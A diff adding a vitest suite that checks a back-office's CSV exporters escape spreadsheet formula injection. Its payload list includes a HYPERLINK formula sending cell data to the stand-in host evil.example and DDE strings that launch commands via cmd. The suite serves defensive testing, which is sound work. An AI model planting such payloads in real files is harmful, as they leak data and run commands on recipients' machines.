@@ -1,0 +1,227 @@
+/**
+ * CSV formula injection (issue 7, OWASP "CSV injection"): every exporter of the back-office, fed
+ * records whose text fields start with = + - @ tab or CR, writes no cell a spreadsheet would run
+ * as a formula. The records are poisoned generically (every text field, nested ones included), so
+ * a column added to an exporter later is covered too.
+ */
+import { describe, expect, it } from 'vitest';
+import { accommodationsToCsv } from '../features/accommodations/api/export-accommodations';
+import { bookingsToCsv } from '../features/bookings/api/export-bookings';
+import { personsToCsv } from '../features/persons/api/export-persons';
+import { productsToCsv } from '../features/products/api/export-products';
+import { tourOperatorsToCsv } from '../features/tour-operators/api/export-tour-operators';
+import { usersToCsv } from '../features/users/api/export-users';
+import { vehiclesToCsv } from '../features/vehicles/api/export-vehicles';
+import { CSV_SEPARATOR } from './csv';
+
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
+const FORMULA_START = /^[=+\-@\t\r]/;
+/** Fields that hold dates, times or ids: kept valid so formatting does not fail first. */
+const KEEP = /(^id$|_id$|_at$|^date$|^time$|^valid_|_expiry$|^from$|^to$)/;
+const NOW = '2026-11-22T10:00:00.000Z';
+
+/** Every text field of a record (nested ones too) set to the payload. */
+function poison<T>(value: T, payload: string, key = ''): T {
+  if (typeof value === 'string') return (KEEP.test(key) ? value : payload) as T;
+  if (Array.isArray(value)) return value.map((v) => poison(v, payload, key)) as T;
+  if (value && typeof value === 'object') {
+    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, payload, k)])) as T;
+  }
+  return value;
+}
+
+/** RFC 4180 parsing with ";" (the exporter's dialect): rows of unquoted cells. */
+function parseCsv(csv: string): string[][] {
+  const text = csv.replace(/^\uFEFF/, '');
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === CSV_SEPARATOR) {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
+  }
+  if (cell !== '' || row.length) rows.push([...row, cell]);
+  return rows;
+}
+
+const common = { id: '3f0c7a2e-1a2b-4c3d-8e9f-0a1b2c3d4e5f', created_at: NOW, updated_at: NOW };
+const operator = { id: '9b2f6a1c-0d4e-4f5a-9b8c-7d6e5f4a3b2c', name: 'Teide Aventura' };
+
+// One realistic record per exporter (only the fields the exporters read matter; the rest is cast).
+const RECORDS = {
+  users: {
+    ...common,
+    full_name: 'Ana',
+    email: 'ana@example.com',
+    phone: '600',
+    level: 2,
+    state: 1,
+    tour_operator: operator,
+    tour_operator_id: operator.id,
+    address: 'Calle',
+    lat_lng: '',
+    commission_pct: 10,
+  },
+  products: {
+    ...common,
+    code: 'TEI-01',
+    name: 'Teide',
+    state: 'active',
+    duration_minutes: 480,
+    capacity: 50,
+    from_price_cents: 4500,
+    tour_operator: operator,
+    tour_operator_id: operator.id,
+    languages: ['es'],
+    pickup_enabled: true,
+    short_description: 'Subida',
+    meeting_point: 'Plaza',
+  },
+  bookings: {
+    ...common,
+    locator: 'TRY-7K2QF9',
+    date: '2026-12-01',
+    time: '09:00',
+    product: { id: operator.id, name: 'Teide', code: 'TEI' },
+    customer_name: 'Lucía',
+    customer_country: 'ES',
+    customer_email: 'l@example.com',
+    customer_phone: '600',
+    lines: [{ pax_type: 'adult', quantity: 2, unit_cents: 4500, total_cents: 9000 }],
+    pax_total: 2,
+    accommodation: { id: operator.id, name: 'Hotel Jardín' },
+    room: '214',
+    pickup_time: '08:20',
+    total_cents: 9000,
+    paid_cents: 0,
+    refunded_cents: 0,
+    pending_cents: 9000,
+    state: 'confirmed',
+    payment_state: 'pending',
+    channel: 'office',
+    seller: { id: operator.id, full_name: 'Sergio' },
+  },
+  vehicles: {
+    ...common,
+    tour_operator_id: operator.id,
+    plate: '1234ABC',
+    name: 'Bus',
+    model: 'Irizar',
+    type: 'bus',
+    seats: 50,
+    transport_authorization: 'AUT',
+    state: 1,
+    notes: 'Notas',
+    unavailable_periods: [],
+  },
+  persons: {
+    ...common,
+    tour_operator_id: operator.id,
+    full_name: 'Laura',
+    document_id: 'X',
+    role: 'guide',
+    phone: '600',
+    email: 'l@example.com',
+    languages: ['es'],
+    license_number: 'L',
+    state: 1,
+    notes: 'Notas',
+  },
+  accommodations: {
+    ...common,
+    tour_operator_id: operator.id,
+    shared: false,
+    name: 'Hotel',
+    type: 'hotel',
+    address: 'Calle',
+    zone: 'Adeje',
+    lat_lng: '28.1,-16.7',
+    phone: '922',
+    pickup_point: 'Puerta',
+    pickup_at_id: null,
+    pickup_at: { id: operator.id, name: 'Otro' },
+    state: 1,
+    notes: 'Notas',
+  },
+  tourOperators: {
+    ...common,
+    name: 'Teide',
+    legal_name: 'Teide SL',
+    tax_id: 'B38',
+    email: 'i@example.com',
+    phone: '922',
+    address: 'Calle',
+    website: 'https://t.example',
+    logo_url: '',
+    brand_color: '#0e7490',
+    timezone: 'Europe/Madrid',
+    currency: 'EUR',
+    default_commission_pct: 10,
+    booking_terms: 'Condiciones',
+    state: 1,
+    users_count: 3,
+  },
+};
+
+// biome-ignore lint/suspicious/noExplicitAny: the records are cast to each exporter's own type
+type AnyRecord = any;
+const EXPORTERS: Record<string, (r: AnyRecord) => string> = {
+  users: (r) => usersToCsv([r], true),
+  products: (r) => productsToCsv([r], true),
+  bookings: (r) => bookingsToCsv([r]),
+  vehicles: (r) => vehiclesToCsv([r], () => r.tour_operator_name ?? 'Operador'),
+  persons: (r) => personsToCsv([r], () => 'Operador'),
+  accommodations: (r) => accommodationsToCsv([r], () => 'Operador'),
+  tourOperators: (r) => tourOperatorsToCsv([r]),
+};
+
+describe('CSV exports neutralise formulas', () => {
+  for (const [name, exporter] of Object.entries(EXPORTERS)) {
+    it(`${name}: no cell starts with = + - @ tab or CR, whatever the text fields hold`, () => {
+      const record = RECORDS[name as keyof typeof RECORDS];
+      for (const payload of PAYLOADS) {
+        const rows = parseCsv(exporter(poison(record, payload)));
+        expect(rows.length).toBe(2);
+        const cells = rows[1];
+        const dangerous = cells.filter((c) => FORMULA_START.test(c));
+        expect(dangerous, `${name} ${JSON.stringify(payload)}`).toEqual([]);
+        // The payload did reach the file (neutralised with a leading apostrophe), so the check means something.
+        expect(cells.filter((c) => c === `'${payload}`).length, `${name} ${JSON.stringify(payload)}`).toBeGreaterThan(
+          0,
+        );
+      }
+    });
+  }
+
+  it('negative amounts stay numbers (no apostrophe on numbers), text minus signs are escaped', () => {
+    const csv = bookingsToCsv([{ ...RECORDS.bookings, total_cents: -500, customer_name: '-5' } as AnyRecord]);
+    const cells = parseCsv(csv)[1];
+    expect(cells).toContain('-5');
+    expect(cells).toContain("'-5");
+  });
+});
